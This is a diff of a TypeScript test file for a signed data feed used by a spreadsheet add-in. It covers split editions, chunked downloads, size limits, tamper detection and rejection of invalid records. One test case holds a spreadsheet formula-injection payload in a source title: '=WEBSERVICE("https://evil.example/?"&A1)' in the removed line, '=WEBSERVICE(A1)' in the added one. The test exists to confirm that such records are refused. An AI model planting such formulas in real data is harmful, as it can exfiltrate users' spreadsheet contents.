@@ -1,10 +1,16 @@
 import fc from "fast-check";
-import { schemaNumber } from "../../src/core/records/lists";
+import { z } from "zod";
+import { factLists, schemaNumber } from "../../src/core/records/lists";
 import type { Records } from "../../src/core/records/records";
 import { keyIdOf } from "../../src/feed/keys";
-import { sha256Of } from "../../src/feed/identity";
-import { type EditionManifest, fileOf } from "../../src/feed/manifest";
-import { earlierManifest, editionOf, latestManifest, type Feed, type NewestSeen } from "../../src/feed/feed";
+import { chunksOf, joined } from "../../src/core/chunks";
+import { evidenceIn } from "../../src/core/evidence";
+import { Answers } from "../../src/core/records/records";
+import { filesOfChunks } from "../../src/feed/publish/files";
+import type { EditionManifest } from "../../src/feed/manifest";
+import { answersOf, type EditionAnswers, evidenceOf, type Known } from "../../src/feed/editionParts";
+import { allAnswersFile, answersFile } from "../../src/feed/layout";
+import { earlierManifest, latestManifest, type Feed, type NewestSeen } from "../../src/feed/feed";
 import { type Fault, faultsInEnglish, FeedProblem } from "../../src/feed/faults";
 import { faultsInItalian } from "../../src/addin/ui/messages/viewsInItalian";
 import type { Access } from "../../src/feed/download";
@@ -19,9 +25,34 @@ beforeAll(async () => {
   published = await publishedFeed(records);
 });
 
-/** Reads the newest edition, as a refresh does. */
-async function read(access: Access, feed: Feed = published.feed, newestSeen?: NewestSeen) {
-  return editionOf(feed, await latestManifest(feed, access, newestSeen), access);
+/** The newest edition as a refresh reads it: its answers at once, its evidence after them. */
+interface Read extends EditionAnswers {
+  /** The texts of its evidence by their hashes. */
+  readonly evidence: ReadonlyMap<string, string>;
+}
+
+async function read(
+  access: Access,
+  feed: Feed = published.feed,
+  newestSeen?: NewestSeen,
+  known?: Known,
+): Promise<Read> {
+  const edition = await answersOf(feed, await latestManifest(feed, access, newestSeen), access, known);
+  const evidence = new Map<string, string>();
+  const parts = edition.contents.chunks.map((chunk) => chunk.evidence);
+  await evidenceOf(feed, parts, access, ({ sha256 }, text) => evidence.set(sha256, text));
+  return { ...edition, evidence };
+}
+
+/** The records that were read. */
+async function recordsIn({ contents, answers, evidence }: Read): Promise<Records> {
+  const lists = z.array(z.unknown()).parse(JSON.parse(await answers.text()));
+  const chunks = contents.chunks.map(({ list, evidence: { sha256 } }, number) => ({
+    list,
+    answers: Answers.shape[list].parse(lists[number]),
+    evidence: evidenceIn(evidence.get(sha256) ?? ""),
+  }));
+  return joined(contents.release, chunks);
 }
 
 /** The sentence with which reading fails. */
@@ -41,13 +72,18 @@ async function otherwise(given: Partial<EditionManifest>, sign = true, of = publ
 }
 
 const json = { headers: { "content-type": "application/json" } };
-const editionFile = () => `/${published.manifest.file}`;
-const withEdition = (body: BodyInit) => serving(published, new Map([[editionFile(), body]]));
+const contentsFile = () => `/${published.manifest.file}`;
+const answersFileOf = ({ manifest }: PublishedFeed) => `/${allAnswersFile(manifest.file)}`;
+/** The files of the edition's chunks of evidence. */
+const evidenceFiles = () => [...published.files.keys()].filter((file) => file.startsWith("/evidence/"));
+const textOf = (file: string, { files } = published) => files.get(file)?.toString() ?? "";
+const withFile = (file: string, body: BodyInit) => serving(published, new Map([[file, body]]));
 
 describe("a feed", () => {
   it("gives its newest edition, just as it was published", async () => {
-    const { file, records: given } = await read(serving(published));
-    expect([given, await file.text()]).toEqual([records, JSON.stringify(records)]);
+    const edition = await read(serving(published));
+    expect(await recordsIn(edition)).toEqual(records);
+    expect(await edition.answers.text()).toBe(textOf(answersFileOf(published)));
   });
 
   it.each([
@@ -80,8 +116,7 @@ describe("a feed", () => {
 
   it("may lay its files out as it likes: what is signed is what they say", async () => {
     const text = JSON.stringify(Object.fromEntries(Object.entries(published.manifest).toReversed()), undefined, 7);
-    const { file } = await read(serving(published, new Map([["/latest.json", text]])));
-    expect(await file.text()).toBe(JSON.stringify(records));
+    expect(await recordsIn(await read(serving(published, new Map([["/latest.json", text]]))))).toEqual(records);
   });
 
   it("gives an earlier edition by its number and hash", async () => {
@@ -97,10 +132,65 @@ describe("a feed", () => {
       return access.fetch(address, init);
     };
     await read({ ...access, fetch: noting });
-    expect(asked).toMatchObject([
-      { cache: "no-cache", credentials: "omit", referrerPolicy: "no-referrer" },
-      { cache: "default", credentials: "omit", referrerPolicy: "no-referrer" },
-    ]);
+    const [latest, ...parts] = asked;
+    expect(latest).toMatchObject({ cache: "no-cache", credentials: "omit", referrerPolicy: "no-referrer" });
+    // The contents, the answers, and each chunk of evidence.
+    expect(parts).toHaveLength(2 + evidenceFiles().length);
+    for (const part of parts)
+      expect(part).toMatchObject({ cache: "default", credentials: "omit", referrerPolicy: "no-referrer" });
+  });
+});
+
+describe("the next edition", () => {
+  const deals = Array.from({ length: 400 }, (_, place) =>
+    aDeal({ id: `a-deal-${place}`, value: dollars(1e9 + place) }),
+  );
+  const source = { id: "a-page", publisher: "A", title: "A", type: "news", tier: "news", published: "2025" } as const;
+  const before = numbered(7, { deals, sources: [source] });
+  const changed = deals.map((deal) => (deal.id === "a-deal-7" ? { ...deal, value: dollars(5e9) } : deal));
+  const after = numbered(8, { deals: changed, sources: [source] });
+
+  /** Reads both editions one after the other. @returns What is asked for the second, and the second. */
+  async function readAfter(known: "the first" | "nothing" | "a damaged first") {
+    const first = await publishedFeed(before, published.privateKey);
+    const second = await publishedFeed(after, published.privateKey);
+    const { contents, answers } = await read(serving(first), first.feed);
+    const damaged = new Blob([(await answers.text()).replaceAll("1000000001", "1000000002")]);
+    const asked: string[] = [];
+    const access = serving(second);
+    const noting: typeof fetch = (address, init) => {
+      asked.push(urlOf(address).replace("https://feed.example/", ""));
+      return access.fetch(address, init);
+    };
+    const knowing = {
+      nothing: undefined,
+      "the first": { contents, answers },
+      "a damaged first": { contents, answers: damaged },
+    };
+    const manifest = await latestManifest(second.feed, access);
+    const edition = await answersOf(second.feed, manifest, { ...access, fetch: noting }, knowing[known]);
+    return { asked, edition, second, contents };
+  }
+
+  it("brings only the chunks that have changed", async () => {
+    const { asked, edition, second, contents } = await readAfter("the first");
+    const known = new Set(contents.chunks.map(({ answers }) => answers.sha256));
+    const changedChunks = edition.contents.chunks.filter(({ answers }) => !known.has(answers.sha256));
+    expect(changedChunks).toHaveLength(1);
+    expect(asked).toEqual([second.manifest.file, ...changedChunks.map(({ answers }) => answersFile(answers))]);
+    expect(await edition.answers.text()).toBe(textOf(answersFileOf(second), second));
+  });
+
+  it("is brought in one file where nothing of it is here", async () => {
+    const { asked, edition, second } = await readAfter("nothing");
+    expect(asked).toEqual([second.manifest.file, allAnswersFile(second.manifest.file)]);
+    expect(await edition.answers.text()).toBe(textOf(answersFileOf(second), second));
+  });
+
+  it("takes nothing of what is here and has been damaged", async () => {
+    const { asked, edition, second } = await readAfter("a damaged first");
+    expect(asked).toHaveLength(3);
+    expect(await edition.answers.text()).toBe(textOf(answersFileOf(second), second));
   });
 });
 
@@ -159,9 +249,9 @@ const faults: Record<Fault, readonly [does: string, act: () => Promise<string>, 
     "https://feed.example/latest.json is larger than 64 kB, so it was not read to its end.",
   ],
   "cut-off": [
-    "breaks off in the middle of the edition",
-    () => problemOf(withEdition(JSON.stringify(records).slice(0, 100))),
-    `The download of https://feed.example/EDITION broke off. Try again.`,
+    "breaks off in the middle of the answers",
+    () => problemOf(withFile(answersFileOf(published), textOf(answersFileOf(published)).slice(0, 100))),
+    `The download of https://feed.example/ANSWERS broke off. Try again.`,
   ],
   "not-json": [
     "has half a latest.json",
@@ -198,6 +288,11 @@ const faults: Record<Fault, readonly [does: string, act: () => Promise<string>, 
     async () => problemOf(await otherwise({ schema: 99 })),
     "The edition is written for a newer add-in. Update the add-in, then try again.",
   ],
+  "too-old": [
+    "has an edition from before editions had two parts",
+    async () => problemOf(await otherwise({ schema: 2 })),
+    "The edition is written for an older add-in, in a form that this one does not read. Tell those who run the feed to publish it anew.",
+  ],
   "other-edition": [
     "has another edition under an earlier one's name",
     async () => {
@@ -210,19 +305,19 @@ const faults: Record<Fault, readonly [does: string, act: () => Promise<string>, 
     "FeedProblem: The feed's edition 7 is not the one that is asked for.",
   ],
   "bad-hash": [
-    "has another file than the one that was signed",
-    () => problemOf(withEdition(JSON.stringify(records).replace("Quarry", "Query "))),
-    "https://feed.example/EDITION is not the file that was signed. It was not used; try again later.",
+    "has other answers than those that were signed",
+    () => problemOf(withFile(answersFileOf(published), textOf(answersFileOf(published)).replace("Quarry", "Query "))),
+    "https://feed.example/ANSWERS is not the file that was signed. It was not used; try again later.",
   ],
   "bad-records": [
     "has an edition with a record that names a company it does not have",
     async () => {
       const direction = { payer: "nobody", payee: "fenwick-labs" };
-      const deals = [aDeal({ id: "a-lease", direction, sources: [{ source: "a-page", says: "So." }] })];
+      const deals = [aDeal({ id: "a-lease", direction })];
       const dangling = await publishedFeed(numbered(7, { deals }), published.privateKey);
       return problemOf(serving(dangling));
     },
-    "The edition has a record that cannot be right (a-lease, sources). It was not used; tell those who run the feed.",
+    "The edition has a record that cannot be right (a-lease, direction). It was not used; tell those who run the feed.",
   ],
 };
 
@@ -261,29 +356,36 @@ function endless(): ReadableStream {
 
 describe("a feed that", () => {
   it.each(Object.values(faults))("%s is not used, and the reason is said", async (_, act, sentence) => {
-    const said = (await act()).replace(published.manifest.file, "EDITION").replace(/\([0-9a-f]{16}\)/, "(KEY)");
+    const said = (await act())
+      .replace(allAnswersFile(published.manifest.file), "ANSWERS")
+      .replace(/\([0-9a-f]{16}\)/, "(KEY)");
     expect(said).toBe(sentence);
   });
 });
 
-describe("an edition's file", () => {
-  it("is read no further than the size that was signed", async () => {
-    const size = published.manifest.bytes;
-    expect(size).toBeLessThan(1_000);
-    const said = await problemOf(withEdition(endless()));
-    expect(said).toBe(
-      `https://feed.example/${published.manifest.file} is larger than ${size / 1000} kB, so it was not read to its end.`,
-    );
+describe("a file of an edition", () => {
+  it.each([
+    ["its contents", contentsFile],
+    ["its answers", () => answersFileOf(published)],
+    ["a chunk of its evidence", () => evidenceFiles()[0] ?? ""],
+  ])("is read no further than the size that was signed: %s", async (_, fileOf) => {
+    const file = fileOf();
+    const size = textOf(file).length;
+    const sentence = await problemOf(withFile(file, endless()));
+    // A long address is shortened.
+    const [address = "", rest] = sentence.split(/…? is larger/);
+    expect(`https://feed.example${file}`.startsWith(address)).toBe(true);
+    expect(rest).toBe(` than ${size / 1000} kB, so it was not read to its end.`);
   });
 
   it("is not asked for if it was signed with more than an add-in can take", async () => {
     const asked: string[] = [];
-    const access = await otherwise({ bytes: 300_000_001 });
+    const access = await otherwise({ bytes: 20_000_001 });
     const noting: typeof fetch = (address, init) => {
       asked.push(urlOf(address));
       return access.fetch(address, init);
     };
-    expect(await problemOf({ ...access, fetch: noting })).toContain("is larger than 300 MB");
+    expect(await problemOf({ ...access, fetch: noting })).toContain("is larger than 20 MB");
     expect(asked).toEqual(["https://feed.example/latest.json"]);
   });
 });
@@ -350,7 +452,7 @@ describe("an edition", () => {
         return new Response(stoppingAtTheEnd(whole, stopping), json);
       },
     };
-    await expect(editionOf(published.feed, published.manifest, access)).rejects.toMatchObject({ name: "AbortError" });
+    await expect(answersOf(published.feed, published.manifest, access)).rejects.toMatchObject({ name: "AbortError" });
   });
 
   it("with a field that this add-in does not know asks for a newer add-in, if the feed says so", async () => {
@@ -378,10 +480,16 @@ describe("an edition", () => {
 
 describe("an edition that was signed but can't be right", () => {
   const source = { id: "a-page", publisher: "A", title: "A", type: "news", tier: "news", published: "2025" } as const;
-  const sayingOf = async (given: Partial<Records>): Promise<string> =>
-    problemOf(serving(await publishedFeed(numbered(7, { sources: [source], ...given }), published.privateKey)));
+  /** @param spoil Takes a word of its files, and puts another in its place. */
+  const sayingOf = async (given: Partial<Records>, spoil: readonly [string, string] = ["", ""]): Promise<string> => {
+    const spoiled = numbered(7, { sources: [source], ...given });
+    const Chunks = z.array(z.object({ list: z.enum(factLists), answers: z.unknown(), evidence: z.unknown() }));
+    const chunks = Chunks.parse(JSON.parse(JSON.stringify(chunksOf(spoiled)).replace(...spoil)));
+    const files = await filesOfChunks(spoiled.release, chunks);
+    return problemOf(serving(await publishedFeed(spoiled, published.privateKey, files)));
+  };
 
-  it.each<[what: string, where: string, given: Partial<Records>]>([
+  it.each<[what: string, where: string, given: Partial<Records>, spoil?: readonly [string, string]]>([
     [
       "gives one name to two companies, of which the formulas would know one",
       "fenwick-labs, aliases",
@@ -415,27 +523,32 @@ describe("an edition that was signed but can't be right", () => {
     [
       "has a title that a spreadsheet would calculate",
       "a-page, title",
-      { sources: [{ ...source, title: '=WEBSERVICE("https://evil.example/?"&A1)' }], deals: [aDeal({ id: "a-deal" })] },
+      { deals: [aDeal({ id: "a-deal" })] },
+      ['"title":"A"', '"title":"=WEBSERVICE(A1)"'],
     ],
     [
       "has a name with space around it, which its file would keep and a check would not",
       "aldermoor-cloud, name",
-      { sources: [], parties: [aParty("Aldermoor Cloud", { name: " Aldermoor Cloud\n" })] },
+      { sources: [], parties: [aParty("Aldermoor Cloud")] },
+      ['"name":"Aldermoor Cloud"', '"name":" Aldermoor Cloud "'],
     ],
-  ])("since it %s, is not used", async (_, where, given) => {
-    expect(await sayingOf(given)).toBe(
+    [
+      "names a document that it does not have",
+      "a-deal, sources",
+      { deals: [aDeal({ id: "a-deal" })] },
+      ['"source":"a-page"', '"source":"b-page"'],
+    ],
+  ])("since it %s, is not used", async (_, ...[where, given, spoil]) => {
+    expect(await sayingOf(given, spoil)).toBe(
       `The edition has a record that cannot be right (${where}). It was not used; tell those who run the feed.`,
     );
   });
 
   it("is refused by its first record, however many are wrong", async () => {
-    const text = JSON.stringify({ ...records, deals: Array.from({ length: 30_000 }, () => ({})) });
-    const sha256 = await sha256Of(text);
-    const changed = { sha256, file: fileOf(7, sha256), bytes: text.length };
-    const { signature, ...unsigned } = { ...published.manifest, ...changed };
-    expect(signature).toBeDefined();
-    const latest = JSON.stringify(await signed(unsigned, published.privateKey));
-    const access = accessTo((path) => (path === "/latest.json" ? latest : text));
+    const evidence = { dossiers: [], sources: [], corrections: [] };
+    const answers = Array.from({ length: 30_000 }, () => ({}));
+    const files = await filesOfChunks(records.release, [{ list: "deals", answers, evidence }]);
+    const access = serving(await publishedFeed(records, published.privateKey, files));
     expect(await problemOf(access)).toContain("a record that cannot be right (0, id)");
   });
 
@@ -491,11 +604,20 @@ describe("a feed in which anything was changed", () => {
         .map(([place, more]) => Buffer.concat([file.subarray(0, place), more, file.subarray(place)])),
     );
 
-  it("gives no edition whose file is not as it was signed", async () => {
-    const file = published.files.get(editionFile()) ?? Buffer.alloc(0);
+  it.each([
+    ["contents", contentsFile],
+    ["answers", () => answersFileOf(published)],
+    ["evidence", () => evidenceFiles()[0] ?? ""],
+  ])("gives no %s but those that were signed", async (_, fileOf) => {
+    const file = published.files.get(fileOf()) ?? Buffer.alloc(0);
     await fc.assert(
       fc.asyncProperty(changedIn(file), async (changed) => {
-        await expect(read(withEdition(new Uint8Array(changed)))).rejects.toBeInstanceOf(FeedProblem);
+        const edition = await read(withFile(fileOf(), new Uint8Array(changed))).catch((cause: unknown) => cause);
+        if (edition instanceof FeedProblem) return;
+        // What stands between the chunks of answers is not signed, and not taken.
+        expect(edition).toBeInstanceOf(Object);
+        expect(await recordsIn(await read(withFile(fileOf(), new Uint8Array(changed))))).toEqual(records);
+        expect(fileOf()).toBe(answersFileOf(published));
       }),
     );
   });
